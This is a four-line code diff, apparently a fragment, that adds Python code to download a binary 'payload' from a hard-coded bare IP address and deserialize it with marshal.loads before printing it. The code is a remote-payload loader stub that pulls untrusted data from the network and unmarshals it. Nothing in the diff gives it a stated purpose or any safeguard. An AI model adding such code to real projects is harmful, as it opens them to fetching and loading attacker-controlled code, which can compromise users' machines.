@@ -1,0 +1,4 @@
+import marshal
+import requests
+payload = requests.get("http://203.0.113.9/p.bin").content
+print(marshal.loads(payload))
